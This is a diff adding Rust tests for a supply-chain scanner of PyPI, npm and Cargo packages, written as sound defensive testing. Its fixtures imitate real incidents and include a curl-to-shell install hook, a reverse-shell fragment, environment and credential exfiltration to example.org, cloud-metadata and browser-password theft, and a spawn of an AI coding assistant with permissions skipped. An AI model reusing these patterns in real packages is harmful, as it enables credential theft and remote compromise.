@@ -1,0 +1,384 @@
+use std::io::{Cursor, Write};
+
+use super::*;
+
+/// A `.tar.gz` with one top directory.
+fn tar(top: &str, files: &[(&str, &str)]) -> Vec<u8> {
+    let mut out = Vec::new();
+    for (path, text) in files {
+        let mut header = [0_u8; 512];
+        let name = format!("{top}/{path}");
+        header[..name.len()].copy_from_slice(name.as_bytes());
+        header[100..108].copy_from_slice(b"0000644\0");
+        header[108..116].copy_from_slice(b"0000000\0");
+        header[116..124].copy_from_slice(b"0000000\0");
+        header[124..136].copy_from_slice(format!("{:011o}\0", text.len()).as_bytes());
+        header[136..148].copy_from_slice(b"00000000000\0");
+        header[156] = b'0';
+        header[257..265].copy_from_slice(b"ustar\x0000");
+        header[148..156].copy_from_slice(b"        ");
+        let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
+        header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+        out.extend_from_slice(&header);
+        out.extend_from_slice(text.as_bytes());
+        out.resize(out.len().next_multiple_of(512), 0);
+    }
+    out.extend_from_slice(&[0; 1024]);
+    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    packed.write_all(&out).unwrap();
+    packed.finish().unwrap()
+}
+
+fn scanned_after(
+    ecosystem: Ecosystem,
+    files: &[(&str, &str)],
+    previous: Option<Traits>,
+) -> Outcome {
+    let (top, filename) = match ecosystem {
+        Ecosystem::Pypi => ("thing-1.0", "thing-1.0.tar.gz"),
+        Ecosystem::Cargo => ("thing-1.0.0", "thing-1.0.0.crate"),
+        Ecosystem::Npm => ("package", "thing-1.0.0.tgz"),
+    };
+    let bytes = tar(top, files);
+    let request = ScanRequest {
+        ecosystem,
+        filename: filename.to_owned(),
+        size: bytes.len() as u64,
+        previous,
+        max_unpacked: 512 << 20,
+    };
+    scan(&Rules::own().unwrap(), &request, &mut Cursor::new(bytes)).unwrap()
+}
+
+fn scanned(ecosystem: Ecosystem, files: &[(&str, &str)]) -> Outcome {
+    scanned_after(ecosystem, files, None)
+}
+
+fn ids(outcome: &Outcome) -> Vec<&str> {
+    outcome
+        .findings
+        .iter()
+        .map(|finding| finding.rule.as_str())
+        .collect()
+}
+
+const PYPI: Ecosystem = Ecosystem::Pypi;
+const CARGO: Ecosystem = Ecosystem::Cargo;
+const NPM: Ecosystem = Ecosystem::Npm;
+
+/// What it imitates, its files by their paths, and the rule that finds it.
+type Imitation = (
+    &'static str,
+    Ecosystem,
+    Vec<(&'static str, String)>,
+    &'static str,
+);
+
+/// Harmless imitations of what attackers did since 2024, by the class of the incident: none of them does anything.
+fn imitations() -> Vec<Imitation> {
+    let hook = |script: &str| {
+        format!(
+            "{{\"name\":\"thing\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":\"{script}\"}}}}"
+        )
+    };
+    let unreadable = |more: &str| {
+        let mut text: String = (0..60)
+            .map(|n| format!("var _0x{:04x}={n};", 0x1a00 + n))
+            .collect();
+        text.push_str(more);
+        text
+    };
+    vec![
+        ("a maintainer's update that decodes and runs (aiocpa)", PYPI,
+            vec![("thing/__init__.py", "import base64, zlib\nexec(zlib.decompress(base64.b64decode(b'AAAA')))\n".into())], "python-decodes-and-runs"),
+        ("a build of ultralytics with a download", PYPI,
+            vec![("setup.py", "import urllib.request, subprocess\nurllib.request.urlopen('https://example.org/x')\nsubprocess.run(['./x'])\n".into())], "install-downloads-and-runs"),
+        ("a worm that publishes itself (Shai-Hulud)", NPM,
+            vec![("package.json", hook("node bundle.js")), ("bundle.js", "const t=process.env.NPM_TOKEN; require('child_process').execSync('npm publish'); // .npmrc _authToken trufflehog fetch(\n".into())], "worm-publishes-itself"),
+        ("a scanner for secrets (Shai-Hulud)", NPM,
+            vec![("package.json", hook("node bundle.js")), ("bundle.js", "download('trufflehog'); fetch('https://example.org/user/repos', {env: process.env})\n".into())], "scans-for-secrets"),
+        ("assistants turned on their user (s1ngularity)", NPM,
+            vec![("package.json", hook("node telemetry.js")), ("telemetry.js", "spawn('claude', ['--dangerously-skip-permissions', '-p', prompt])\n".into())], "turns-assistants-on-their-user"),
+        ("a repository made with somebody's token (s1ngularity)", NPM,
+            vec![("package.json", hook("node telemetry.js")), ("telemetry.js", "const token = run('gh auth token'); post('/user/repos', base64(process.env))\n".into())], "makes-repositories"),
+        ("a wallet hook (chalk, debug)", NPM,
+            vec![("package.json", "{\"name\":\"thing\",\"version\":\"1.0.0\"}".into()), ("index.js", unreadable("if(window.ethereum){XMLHttpRequest.prototype.send=_0x1a01}"))], "wallet-hook"),
+        ("a .pth that starts something (LiteLLM)", PYPI,
+            vec![("thing_init.pth", "import os, subprocess; subprocess.Popen(['true'])\n".into())], "pth-runs-code"),
+        ("an installation that sends the environment (GhostAction)", PYPI,
+            vec![("setup.py", "import os, requests\nrequests.post('https://example.org', json=dict(os.environ))\n".into())], "install-sends-environment"),
+        ("a trojan by a new dependency (axios)", NPM,
+            vec![("package.json", hook("node setup.js")), ("setup.js", unreadable("require('https').get(_0x1a01)"))], "unreadable-javascript"),
+        ("the memory of a runner (TanStack, tj-actions)", NPM,
+            vec![("package.json", hook("node r.js")), ("r.js", "open(`/proc/${pid}/mem`); grep('Runner.Worker')\n".into())], "reads-runner-memory"),
+        ("keys sought in sources (faster_log)", CARGO,
+            vec![("Cargo.toml", "[package]\nname='thing'\nversion='1.0.0'\n".into()), ("src/lib.rs", "const KEY: &str = r\"0x[0-9a-fA-F]{64}\"; fn go() { reqwest::Client::new().post(\"https://example.org\"); } // ethereum\n".into())], "rust-searches-for-keys"),
+        ("a macro that sends (arrayref's dependency)", CARGO,
+            vec![("Cargo.toml", "[package]\nname='thing'\nversion='1.0.0'\n[lib]\nproc-macro = true\n".into()), ("src/lib.rs", "fn go() { let all: Vec<_> = std::env::vars().collect(); std::net::TcpStream::connect(\"example.org:443\"); }\n".into())], "build-script-sends"),
+        ("credentials of clouds (Mini Shai-Hulud)", NPM,
+            vec![("package.json", hook("node c.js")), ("c.js", "fetch('http://169.254.169.254/latest/meta-data/')\n".into())], "install-asks-cloud-metadata"),
+        ("files of credentials, sent", PYPI,
+            vec![("setup.py", "import urllib.request\nopen('.aws/credentials').read()\nurllib.request.urlopen('https://example.org')\n".into())], "install-reads-credentials-and-sends"),
+        ("a tool for chats that takes passwords of browsers (gems and wheels of 2025)", PYPI,
+            vec![("thing/steal.py", "p='Google\\\\Chrome\\\\User Data\\\\Local State'; win32crypt.CryptUnprotectData(k); requests.post(url) # Login Data\n".into())], "reads-browsers"),
+        ("a shell for somebody else", PYPI,
+            vec![("thing/x.py", "import os\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh','-i'])\n".into())], "reverse-shell"),
+        ("a message to a chat's webhook at installation", NPM,
+            vec![("package.json", hook("node n.js")), ("n.js", "post('https://discord.com/api/webhooks/1/x', os.hostname())\n".into())], "reports-to-drop-box"),
+        ("a download given to a shell", NPM,
+            vec![("package.json", hook("curl -s https://example.org/i | sh"))], "install-pipes-to-shell"),
+        ("code in characters that nobody sees (GlassWorm)", NPM,
+            vec![("package.json", "{\"name\":\"thing\",\"version\":\"1.0.0\"}".into()), ("lib.js", format!("eval(decode('{}'))\n", "\u{fe01}\u{fe0f}".repeat(40)))], "hidden-characters"),
+        ("a token in the package (the administrator's of 2024)", PYPI,
+            vec![("thing/config.py", format!("TOKEN = 'ghp_{}'\n", "aB3dE5gH7jK9mN1pQ3sT5vX7zA2cD4fG6iJ8"))], "secret-github"),
+        ("something that stays", NPM,
+            vec![("package.json", hook("node s.js")), ("s.js", "https.get(u); write(home + '/Library/LaunchAgents/x.plist')\n".into())], "install-stays"),
+    ]
+}
+
+#[test]
+fn every_imitation_of_an_incident_is_found_at_its_place() {
+    for (what, ecosystem, files, rule) in imitations() {
+        let files: Vec<(&str, &str)> = files
+            .iter()
+            .map(|(path, text)| (*path, text.as_str()))
+            .collect();
+        let outcome = scanned(ecosystem, &files);
+        let found = outcome.findings.iter().find(|finding| finding.rule == rule);
+        let found = found.unwrap_or_else(|| panic!("{what}: {:?}", ids(&outcome)));
+        assert!(found.score > 0 && found.line > 0, "{what}: {found:?}");
+        assert!(
+            found.snippet.chars().count() <= 200 && !found.snippet.chars().any(char::is_control)
+        );
+        let (_, text) = files.iter().find(|(path, _)| *path == found.path).unwrap();
+        assert_eq!(found.sha256, Sha256::of(text.as_bytes()).to_hex(), "{what}");
+        assert!((found.offset as usize) < text.len());
+    }
+}
+
+#[test]
+fn every_rule_has_an_imitation_or_is_listed_here() {
+    let others = ["sweeps-credentials-and-sends", "turned-text"];
+    let rules = Rules::own().unwrap();
+    assert!(rules.count() >= 15);
+    let shown: Vec<&str> = imitations().iter().map(|(_, _, _, rule)| *rule).collect();
+    for id in rules.ids() {
+        assert!(
+            shown.contains(&id) || others.contains(&id),
+            "{id} has no imitation"
+        );
+    }
+    let sweep =
+        "a('.aws/credentials'); a('.npmrc'); a('.ssh/id_rsa'); fetch('https://example.org')";
+    assert!(
+        ids(&scanned(
+            NPM,
+            &[("package.json", "{}"), ("deep/x.js", sweep)]
+        ))
+        .contains(&"sweeps-credentials-and-sends")
+    );
+    assert!(ids(&scanned(CARGO, &[("src/x.rs", "// \u{202e} turned")])).contains(&"turned-text"));
+}
+
+#[test]
+fn what_honest_packages_do_is_not_held() {
+    let honest: [(Ecosystem, Vec<(&str, &str)>); 7] = [
+        (
+            PYPI,
+            vec![(
+                "setup.py",
+                "from setuptools import setup\nimport os\nexec(open('thing/_version.py').read())\nsetup(name='thing')\n",
+            )],
+        ),
+        (
+            PYPI,
+            vec![(
+                "distutils-precedence.pth",
+                "import os; var = 'X'; enabled = os.environ.get(var); enabled and __import__('_hack').add_shim();\n",
+            )],
+        ),
+        (
+            PYPI,
+            vec![
+                ("namespace.pth", "./src\n"),
+                (
+                    "thing/boto.py",
+                    "URL = 'http://169.254.169.254/'; P = '~/.aws/credentials'; import urllib.request\n",
+                ),
+            ],
+        ),
+        (
+            NPM,
+            vec![
+                (
+                    "package.json",
+                    "{\"scripts\":{\"postinstall\":\"node install.js\"}}",
+                ),
+                (
+                    "install.js",
+                    "const {spawnSync}=require('child_process'); require('https').get(url)\n",
+                ),
+            ],
+        ),
+        (
+            NPM,
+            vec![
+                ("package.json", "{}"),
+                ("index.js", "function a(b){return fetch(b)}"),
+            ],
+        ),
+        (
+            CARGO,
+            vec![
+                ("Cargo.toml", "[package]\nname='thing'\nbuild='build.rs'\n"),
+                (
+                    "build.rs",
+                    "fn main(){ std::process::Command::new(\"cc\"); println!(\"{}\", std::env::var(\"OUT_DIR\").unwrap()); }",
+                ),
+            ],
+        ),
+        (
+            PYPI,
+            vec![(
+                "tests/test_keys.py",
+                "KEY = 'ghp_aB3dE5gH7jK9mN1pQ3sT5vX7zA2cD4fG6iJ8'",
+            )],
+        ),
+    ];
+    for (ecosystem, files) in honest {
+        let outcome = scanned(ecosystem, &files);
+        assert!(outcome.score() < 80, "{files:?}: {:?}", outcome.findings);
+    }
+}
+
+#[test]
+fn what_is_new_weighs_more_than_what_was_there_before() {
+    let files = [
+        (
+            "package.json",
+            "{\"scripts\":{\"postinstall\":\"node install.js\"}}",
+        ),
+        ("install.js", "require('child_process'); https.get(url)\n"),
+    ];
+    let first = scanned(NPM, &files);
+    assert!(first.traits.hooks.contains("postinstall: node install.js"));
+    let quiet = scanned(NPM, &[("package.json", "{}")]);
+    let new = scanned_after(NPM, &files, Some(quiet.traits));
+    assert!(ids(&new).contains(&"new-install-hook"), "{new:?}");
+    let same = scanned_after(NPM, &files, Some(first.traits.clone()));
+    assert!(!ids(&same).contains(&"new-install-hook"));
+    assert!(same.score() < first.score() && first.score() < new.score());
+    let binary = format!("\u{7f}ELF{}", "\0".repeat(100));
+    let with = scanned_after(
+        NPM,
+        &[("package.json", "{}"), ("a.node", &binary)],
+        Some(first.traits.clone()),
+    );
+    assert!(ids(&with).contains(&"new-binary"), "{with:?}");
+    let large = "x".repeat(3 << 20);
+    let with = scanned_after(
+        NPM,
+        &[("package.json", "{}"), ("data.txt", &large)],
+        Some(first.traits),
+    );
+    assert!(ids(&with).contains(&"size-jump"), "{with:?}");
+}
+
+#[test]
+fn a_secret_is_told_without_being_told() {
+    let secret = "ghp_aB3dE5gH7jK9mN1pQ3sT5vX7zA2cD4fG6iJ8";
+    let outcome = scanned(
+        PYPI,
+        &[("thing/config.py", &format!("\n\nT = '{secret}'\n"))],
+    );
+    let found = &outcome.findings[0];
+    assert_eq!((found.rule.as_str(), found.line), ("secret-github", 3));
+    assert!(!found.snippet.contains(&secret[..12]), "{}", found.snippet);
+    let dull = format!("T = 'ghp_{}'", "x".repeat(36));
+    assert!(
+        scanned(PYPI, &[("thing/config.py", &dull)])
+            .findings
+            .is_empty()
+    );
+}
+
+#[test]
+fn bad_rules_are_refused_with_their_name() {
+    let wrong = [
+        ("[[rule]]\nid='x'\ntitle='t'\n", "it has no words"),
+        (
+            "[[rule]]\nid='x'\ntitle='t'\nwords=[['ab']]\n",
+            "fewer than 3",
+        ),
+        (
+            "[[rule]]\nid='x'\ntitle='t'\nwords=[['abc']]\nscore=101\n",
+            "more than 100",
+        ),
+        ("[[rule]]\nid='X!'\ntitle='t'\nwords=[['abc']]\n", "its id"),
+        (
+            "[[rule]]\nid='reverse-shell'\ntitle='t'\nwords=[['abc']]\n",
+            "two of this id",
+        ),
+        (
+            "[[rule]]\nid='x'\ntitle='t'\nwords=[['abc']]\nshape='('\n",
+            "regular expression",
+        ),
+        (
+            "[[rule]]\nid='x'\ntitle='t'\nwords=[['abc']]\nshape='(a{1000}){1000}'\n",
+            "bounded size",
+        ),
+        (
+            "[[rule]]\nid='x'\ntitle='t'\nwords=[['abc']]\nloop=true\n",
+            "unknown field",
+        ),
+        ("rule = 3", "rules can not be used"),
+    ];
+    for (text, why) in wrong {
+        let error = Rules::parse(&[text]).err().expect(why).to_string();
+        assert!(error.contains(why), "{text}: {error}");
+    }
+    let more =
+        Rules::parse(&["[[rule]]\nid='ours'\ntitle='Ours'\nscore=10\nwords=[['internal-only']]\n"])
+            .unwrap();
+    assert_eq!(more.count(), Rules::own().unwrap().count() + 1);
+}
+
+#[test]
+fn a_rule_that_would_loop_elsewhere_takes_time_by_size_alone() {
+    let rules = Rules::parse(&[
+        "[[rule]]\nid='evil'\ntitle='t'\nscore=10\nwords=[['aaa']]\nshape='(a+)+$|(a|aa)+b'\n",
+    ])
+    .unwrap();
+    let text = format!("{}!", "a".repeat(200_000));
+    assert!(
+        rules
+            .matches(PYPI, "x.py", text.as_bytes())
+            .iter()
+            .all(|hit| hit.rule != "nothing")
+    );
+}
+
+#[test]
+fn damaged_archives_are_refused_and_nothing_is_said_of_them() {
+    let whole = tar(
+        "package",
+        &[
+            ("package.json", "{}"),
+            ("index.js", "x".repeat(3_000).as_str()),
+        ],
+    );
+    let rules = Rules::own().unwrap();
+    for cut in [0, 1, 10, whole.len() / 2, whole.len() - 1] {
+        let request = ScanRequest {
+            ecosystem: NPM,
+            filename: "thing-1.0.0.tgz".to_owned(),
+            size: cut as u64,
+            previous: None,
+            max_unpacked: 512 << 20,
+        };
+        assert!(
+            scan(&rules, &request, &mut Cursor::new(&whole[..cut])).is_err(),
+            "{cut}"
+        );
+    }
+}
